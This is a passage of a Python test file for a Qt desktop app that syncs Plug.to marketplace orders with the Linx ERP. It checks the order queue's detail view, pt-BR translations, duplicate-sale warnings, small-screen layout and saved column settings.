    assert detail.field_values["sale_id"].text() == sent["OriginalOrderID"] == integrated.sale_id
    assert detail.field_names["sale_id"].text().startswith("ID da venda na Linx")
    assert detail.field_values["order_no"].text() == integrated.marketplace_order_id != sent["OriginalOrderID"]
    assert detail.cnpj_value.text().endswith("— informado no pedido")
    decision = next(e for e in events if e.type == "intermediary")
    assert detail.cnpj_explanation.text() == decision.message
    timeline = [detail.timeline.topLevelItem(i).text(1) for i in range(detail.timeline.topLevelItemCount())]
    assert timeline == [e.message for e in reversed(events)]
    for kind in (PAYLOAD_PLUGGTO, PAYLOAD_LINX_REQUEST, PAYLOAD_LINX_RESPONSE):
        assert json.loads(detail.payload_text(kind)) == payloads[kind]
    assert detail.tabs.tabText(2) == "Enviado à Linx" and detail.tabs.tabText(3) == "Resposta da Linx"
    page.grab().save("/tmp/queue_pt_integrated.png")

    # integrated with the channel's fallback CNPJ
    show(fallback.id)
    assert detail.cnpj_value.text() == "12.ABC.345/01DE-35 — CNPJ padrão do canal"
    assert "CNPJ padrão do canal" in detail.cnpj_explanation.text()

    # needs attention: the reason, prominently
    show(attention.id)
    reason = render("unknown_sku", arun(controller.store.get(attention.id)).params, PT)
    assert detail.reason_box.isVisibleTo(page)
    assert detail.reason_title.text() == reason.title
    assert detail.reason_message.text() == reason.message
    assert detail.reason_hint.text() == "O que fazer: " + reason.hint

    async def copy() -> str:
        return await page.copy_details_async()

    text = arun(copy())
    assert text == QGuiApplication.clipboard().text()
    assert reason.title in text and reason.hint in text and "CNPJ do intermediador" in text
    assert "Linha do tempo:" in text and "Precisa de atenção" in text
    payload = arun(controller.store.payload(attention.id, PAYLOAD_PLUGGTO))
    assert payload["receiver_email"] not in text and payload["payer_email"] not in text  # never payloads
    page.grab().save("/tmp/queue_pt_attention.png")

    # waiting for payment: nothing sent to Linx yet, said in words
    show(waiting.id)
    assert detail.payload_text(PAYLOAD_PLUGGTO) is not None
    assert detail.missing_message(PAYLOAD_LINX_REQUEST).startswith("Indisponível: nada foi enviado à Linx")
    assert detail.cnpj_value.text().startswith("Ainda não definido")


def test_a_sale_sent_twice_shows_both_plugto_ids_and_the_way_out(controller, sims, make_page, arun,
                                                                    pt_translator) -> None:
    """A copy of a sale in Plug.to: the merchant reads which Plug.to order already has it in the
    store, and what to do (ignore the copy)."""
    first = arun(engine_order(controller, sims, skus=["CAM-AZUL-M"], index=20))
    original = dict(sims.pluggto.orders[first.key], ack=None, external=None, log_history=[])
    copy_id = sims.pluggto.add_order(dict(original, id=first.key[:-4] + "ffff"), touch=True)["id"]
    controller.service.sync_now()

    async def flagged() -> Any:
        while (job := await controller.store.find("order", copy_id)) is None \
                or job.state != "needs_attention":
            await asyncio.sleep(0.05)
        return job

    copy_job = arun(asyncio.wait_for(flagged(), 20))
    page = make_page()
    detail = page.detail

    async def show() -> None:
        assert page.select_job(copy_job.id)
        await until(lambda: detail._loaded_for is not None and detail._loaded_for[0] == copy_job.id,
                    what="details loaded")

    arun(show())
    assert detail.reason_title.text() == "Venda já integrada por outro pedido do Plug.to"
    assert first.key in detail.reason_message.text()
    assert f"nº {first.linx_order_number}" in detail.reason_message.text()
    assert "Ignorar" in detail.reason_hint.text()
    page.grab().save("/tmp/queue_pt_duplicate_sale.png")


def test_screenshot_english_with_long_strings(controller, sims, make_page, arun) -> None:
    for i, (skus, status) in enumerate([(["CAM-AZUL-M"], "approved"), ([UNKNOWN_SKU], "approved"),
                                        (["CAM-AZUL-M"], "pending"), (["CAM-AZUL-M"], "canceled")]):
        arun(engine_order(controller, sims, skus=skus, index=20 + i, status=status))
    page = make_page()
    _row, job = job_by(page, lambda j: j.state == "needs_attention")
    arun(_select(page, job.id))
    page.grab().save("/tmp/queue_en.png")
    header = page.table.horizontalHeader()
    metrics = header.fontMetrics()
    for col in range(page.model.columnCount()):  # no header of a column shown is clipped
        if header.isSectionHidden(col):
            continue
        title = page.model.headerData(col, Qt.Orientation.Horizontal)
        assert header.sectionSize(col) >= metrics.horizontalAdvance(title) + 20, title


async def _select(page: QueuePage, job_id: int) -> None:
    assert page.select_job(job_id)
    await until(lambda: page.detail._loaded_for is not None and page.detail._loaded_for[0] == job_id)
    await page.controller.tasks.wait_idle()


def test_every_string_has_a_pt_br_translation() -> None:
    catalog = json.loads(CATALOG.read_text(encoding="utf-8"))
    found: dict[str, bool] = {}
    for path in sorted((ROOT / "pluggto_desktop" / "ui" / "queue").glob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call):
                continue
            func = node.func
            attr = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", None)
            position = 0 if (attr == "tr" and isinstance(func, ast.Attribute)) else (
                1 if attr in ("translate", "QT_TRANSLATE_NOOP") else None)
            if position is None or len(node.args) <= position:
                continue
            arg = node.args[position]
            if isinstance(arg, ast.Constant) and isinstance(arg.value, str):
                found[arg.value] = found.get(arg.value, False) or len(node.args) > position + 2
    assert len(found) > 100
    missing = sorted(set(found) - set(catalog))
    assert missing == []
    for text, plural in found.items():
        if plural:
            assert isinstance(catalog[text], list) and len(catalog[text]) == 2, text
            assert all("%n" in form for form in catalog[text]), text
        for marker in ("%1", "%2"):
            if marker in text:
                forms = catalog[text] if isinstance(catalog[text], list) else [catalog[text]]
                assert all(marker in form for form in forms), text
    labels = {"Resend": "Reenviar", "Resend selected": "Reenviar selecionados", "Ignore…": "Ignorar…",
              "Copy details": "Copiar detalhes", "Export CSV…": "Exportar CSV…",
              "Import order…": "Importar pedido…", "State": "Situação",
              "Undo ignore": "Desfazer ignorar"}
    assert {k: catalog[k] for k in labels} == labels
    assert state_label("retry_wait", PT, time="14:30") == "Nova tentativa às 14:30"


# -- the layout on small screens (issue 12, item 6) ----------------------------------------------------------
@pytest.mark.parametrize("lang", ["pt_BR", "en"])
@pytest.mark.parametrize("size", [(1024, 700), (1366, 768)])
def test_the_queue_fits_a_small_screen(controller, sims, arun, qtbot, lang, size) -> None:
    """The columns that matter (state, marketplace, order number, buyer, reason, updated) fit with
    no horizontal scrolling; nothing in the two rows above the table overlaps or hides."""
    from pluggto_desktop.i18n import EN
    from pluggto_desktop.ui.i18n import install_language
    from pluggto_desktop.ui.main_window import MainWindow

    arun(engine_order(controller, sims, skus=[UNKNOWN_SKU], index=30))
    install_language(lang)
    controller.service.lang = lang
    try:
        window = MainWindow(controller)
        qtbot.addWidget(window)
        window.resize(*size)
        window.show()
        window.go("orders", {"states": ["needs_attention"]})
        page = window.pages["orders"]

        async def settle() -> None:
            await loaded(page)
            await asyncio.sleep(0.2)

        arun(settle())
        window.grab().save(f"/tmp/queue-{lang}-{size[0]}x{size[1]}.png")
        header = page.table.horizontalHeader()
        assert page.visible_columns() == ["state", "marketplace", "marketplace_order_id", "buyer_name", "reason",
                                          "updated_at"]
        assert not page.table.horizontalScrollBar().isVisible()
        assert header.length() <= page.table.viewport().width()
        metrics = page.table.fontMetrics()
        bold = page.table.font()
        bold.setBold(True)
        reason = page.model.column_of("reason")
        state = page.model.column_of("state")
        for col, text, font_metrics in (
                (reason, render("unknown_sku", {"sku": UNKNOWN_SKU}, lang).title, metrics),
                (state, state_label("needs_attention", lang), QFontMetrics(bold)),
                (page.model.column_of("marketplace_order_id"), "702-1234567-1234567", metrics)):
            assert header.sectionSize(col) >= font_metrics.horizontalAdvance(text) + 12, (col, text)
        # the two rows above the table: every widget whole, none over another
        widgets = [page.state_combo, page.marketplace_combo, page.date_combo, page.search_edit, page.toolbar,
                   page.count_label]
        rects = [w.geometry().translated(w.parentWidget().mapTo(page, w.pos()) - w.pos()) for w in widgets]
        for i, a in enumerate(rects):
            assert widgets[i].width() >= widgets[i].minimumSizeHint().width() - 1, widgets[i]
            for b in rects[i + 1:]:
                assert not a.intersects(b), (a, b)
        combo = page.state_combo
        assert combo.fontMetrics().horizontalAdvance(combo.currentText()) <= combo.width() - 30  # not cut
        import_button = page.toolbar.widgetForAction(page.act_import)
        assert import_button is not None and import_button.isVisible()  # not behind the » menu
    finally:
        install_language(EN)
        controller.service.lang = PT


def test_the_columns_are_chosen_on_the_header_and_remembered_per_profile(controller, make_page, arun) -> None:
    from pluggto_desktop.settings import load_settings

    page = make_page()
    header = page.table.horizontalHeader()
    assert page.visible_columns() == ["state", "marketplace", "marketplace_order_id", "buyer_name", "reason",
                                      "updated_at"]
    hidden = [c.key for i, c in enumerate(page.model.columns) if header.isSectionHidden(i)]
    assert hidden == ["pluggto_status", "attempts", "linx_order_number", "key"]

    page._header_menu(header.rect().center())  # right-click on the titles
    menu = page._column_menu
    checks = {a.text(): a for a in menu.actions() if a.isCheckable()}
    assert checks["Plug.to ID"].isChecked() is False and checks["Buyer"].isChecked() is True
    checks["Plug.to ID"].toggle()
    checks["Buyer"].toggle()
    menu.close()
    expected = ["state", "marketplace", "marketplace_order_id", "reason", "updated_at", "key"]
    assert page.visible_columns() == expected
    saved = controller.service.settings.ui.order_columns
    assert saved == expected
    assert load_settings(controller.service.profile.settings_path).ui.order_columns == expected  # on disk

    again = make_page()  # the next time the queue opens (another run: the same settings)
    assert again.visible_columns() == expected

    again._header_menu(header.rect().center())
    default = next(a for a in again._column_menu.actions() if a.text() == "Default columns")
    default.trigger()
    assert again.visible_columns()[:2] == ["state", "marketplace"] and "key" not in again.visible_columns()
    assert controller.service.settings.ui.order_columns is None


def test_without_an_engine_the_view_follows_the_services_job_events(big_controller, make_page, arun) -> None:
    """The service is the only door: with the sync stopped, an action still publishes the job's
    event, and the table (and the actions) follow it — the page refreshes nothing by hand."""
    service = big_controller.service
    arun(service.stop_engine())
    assert service.engine is None
    page = make_page()
    _row, job = job_by(page, lambda j: j.state == "needs_attention")
    assert page.select_job(job.id)
    seen: list[dict] = []
    big_controller.job_changed.connect(seen.append)
    refreshed = []
    page.model.refresh_jobs = lambda ids: refreshed.append(ids)  # the hand refresh of old: never called

    async def scenario() -> None:
        assert await page.ignore([job.id], "Pedido de teste") == 1
        assert seen == [{"job_id": job.id, "kind": "order", "key": job.key, "state": "ignored"}]
        await until(lambda: shown_state(page, job.id) == "ignored", what="the row follows the event")
        await until(lambda: page.act_unignore.isEnabled() and not page.act_ignore.isEnabled(),
                    what="the actions follow the row")
        assert await page.unignore([job.id]) == 1
        await until(lambda: shown_state(page, job.id) == "needs_attention", what="back")
        assert await page.retry([job.id]) == 1
        await until(lambda: shown_state(page, job.id) == "queued", what="queued again")

    arun(scenario())
    assert [e["state"] for e in seen] == ["ignored", "needs_attention", "queued"]
    assert refreshed == []
